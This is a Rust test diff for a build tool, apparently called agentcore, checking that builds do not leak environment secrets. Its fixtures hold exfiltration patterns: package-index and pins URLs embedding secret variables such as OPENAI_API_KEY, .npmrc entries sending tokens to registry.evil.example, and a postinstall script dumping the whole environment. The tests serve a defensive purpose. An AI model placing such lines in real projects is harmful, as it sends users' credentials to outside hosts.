@@ -291,7 +291,38 @@ fn requirements_send_no_secret_to_a_host_of_their_own() {
             let run = world.agentcore(&build).var(name, "canary-of-the-machine").run().code(2);
             run.says(name).says("--trust-config").says("AGENTCORE_BUILD_ENV");
         }
+        // What binds a version is read by the installer, too.
+        world.write("requirements.txt", "six\n-c pins.txt\n");
+        world.write("pins.txt", &format!("six @ http://127.0.0.1:9/${{{name}}}/six-1.0-py3-none-any.whl\n"));
+        world.agentcore(&build).var(name, "canary-of-the-machine").run().code(2).says(name);
     }
+}
+
+#[test]
+fn an_index_of_a_checkout_gets_no_secret() {
+    if !packages_available() {
+        return;
+    }
+    let mut world = World::new();
+    world.set("AGENTCORE_BASE_IMAGE", "scratch");
+    let index = "http://127.0.0.1:9/simple";
+    let project =
+        "[project]\nname = \"agent\"\nversion = \"1\"\nrequires-python = \">=3.10\"\ndependencies = [\"six\"]\n";
+    let named = "[[tool.uv.index]]\nurl = \"http://${OPENAI_API_KEY}@127.0.0.1:9/simple\"\n";
+    world.write("agent.py", "app = 1\n").write("pyproject.toml", &format!("{project}\n{named}"));
+    world.write(
+        "uv.lock",
+        &format!(
+            "version = 1\nrequires-python = \">=3.10\"\n\n[[package]]\nname = \"agent\"\nversion = \"1\"\n\
+             source = {{ virtual = \".\" }}\ndependencies = [{{ name = \"six\" }}]\n\n[[package]]\nname = \"six\"\nversion = \"1.0\"\n\
+             source = {{ registry = \"{index}\" }}\nwheels = [{{ url = \"{index}/six-1.0-py3-none-any.whl\", \
+             hash = \"sha256:{}\" }}]\n",
+            "0".repeat(64)
+        ),
+    );
+    world.agentcore(&["configure", "-ni", "-e", "agent.py", "-n", "a", "--region", "us-west-2"]).run().code(0);
+    let run = world.agentcore(&["build", "--builder", "native"]).var("OPENAI_API_KEY", "canary-of-the-machine").run();
+    run.code(2).says("OPENAI_API_KEY").says("AGENTCORE_BUILD_ENV");
 }
 
 /// What a stranger's link leads to: a folder with files, whose every byte must stay as it is.
@@ -599,6 +630,47 @@ fn scripts_of_node_packages_see_no_secret() {
     world.write(".npmrc", "//registry.evil.example/:_authToken=${AWS_SECRET_ACCESS_KEY}\n");
     let command = world.agentcore(&build).var("AWS_SECRET_ACCESS_KEY", "canary").run().code(2);
     command.says("AWS_SECRET_ACCESS_KEY").says(".npmrc");
+}
+
+/// pnpm and yarn with their versions and programs, and how each writes a lock without installing.
+const MANAGERS: [(&str, &str, &str, &[&str]); 2] = [
+    ("pnpm", "10.34.4", "bin/pnpm.cjs", &["install", "--lockfile-only", "--ignore-scripts"]),
+    ("yarn", "1.22.22", "bin/yarn.js", &["install", "--ignore-scripts", "--non-interactive"]),
+];
+
+#[test]
+fn scripts_under_pnpm_and_yarn_see_no_login() {
+    for (name, version, program, lock) in MANAGERS {
+        let Some((mut world, log)) = World::with_manager(name, version, program) else { return };
+        world.set("AGENTCORE_BASE_IMAGE", "scratch");
+        let dump = world.path("tmp/dump");
+        let script = format!(
+            "const fs = require('fs'); fs.appendFileSync({:?}, JSON.stringify(process.env)); \
+             fs.mkdirSync('dist', {{recursive: true}}); fs.writeFileSync('dist/agent.js', '')",
+            dump.display().to_string()
+        );
+        world.write("src/agent.ts", "export {};\n").write("dump.js", &script);
+        world.write("tsconfig.json", r#"{"compilerOptions":{"rootDir":"src","outDir":"dist"},"include":["src"]}"#);
+        let package = r#"{"name":"agent","version":"1.0.0","private":true,"scripts":{"build":"node dump.js","postinstall":"node dump.js"},"dependencies":{"ms":"2.1.3"}}"#;
+        world.write("package.json", package);
+        world.manager(name, "", lock);
+        let _ = std::fs::remove_dir_all(world.project().join("node_modules"));
+        world.write(".npmrc", "//registry.evil.example/:_authToken=${ACME_NPM_TOKEN}\n");
+        for variable in ["NODE_AUTH_TOKEN", "NPM_TOKEN", "ACME_NPM_TOKEN", "npm_config__auth"] {
+            world.set(variable, "login-of-a-registry");
+        }
+        world.agentcore(&["configure", "-ni", "-e", "src/agent.ts", "-n", "a", "--region", "us-west-2"]).run().code(0);
+        let (run, seen) = surroundings(&world, &["build", "--builder", "native"], &dump);
+        assert!(seen.matches("\"PATH\"").count() >= 2, "{name}: {seen}\n{run}");
+        assert!(!seen.contains("login-of-a-registry"), "{name}: {seen}");
+        run.code(0);
+        let log = std::fs::read_to_string(&log).unwrap();
+        let installs = log.lines().filter(|line| line.starts_with("install") && !line.contains("--offline"));
+        assert!(
+            installs.clone().count() >= 2 && installs.clone().all(|line| line.contains("--ignore-scripts")),
+            "{log}"
+        );
+    }
 }
 
 #[test]
